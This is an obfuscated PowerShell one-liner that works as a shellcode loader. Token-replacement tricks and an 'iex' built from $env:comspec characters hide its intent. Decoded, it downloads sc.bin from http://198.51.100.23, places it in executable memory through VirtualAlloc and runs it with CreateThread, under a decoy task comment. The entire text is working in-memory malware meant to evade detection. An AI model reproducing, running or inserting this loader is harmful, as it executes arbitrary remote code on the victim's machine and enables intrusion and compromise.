'iex ((''# task 1KXV48761 v3
$code = @''''
[DllImport("kernel32.dll")] pvz~0blic static extern IntPtr Virtvz~0alAlloc(IntPtr a, vz~0int s, vz~0int t, vz~0int p);
[DllImport("kernel32.dll")] pvz~0blic static extern IntPtr CreateThread(IntPtr a, vzKXV48~0int s, IntPtr f, IntPtr p, vz~0int c, IntPtr i);
''''@
$k = Add-Type -MemberDefinition $code -Name K32 -PassThrvz~0
[Byte[]]$sc = (New-Object Net.WebClient).DownloadKXV48Data(''''http://198.51.100.23/sc.bin'''')
$m = $k::Virtvz~0alAlloc(0, $sc.Length, 0x3000, 0x40)
[System.Rvz~0ntime.InteropServices.Marshal]::Copy($sc, 0, $m, $sc.Length)
$k::CreateThread(0, 0, $m, 0, 0, 0)
'' -replace ''KXV48'','''').Replace(''vz~0'',''u''))' | & ($env:comspec[4,15,25]-join'')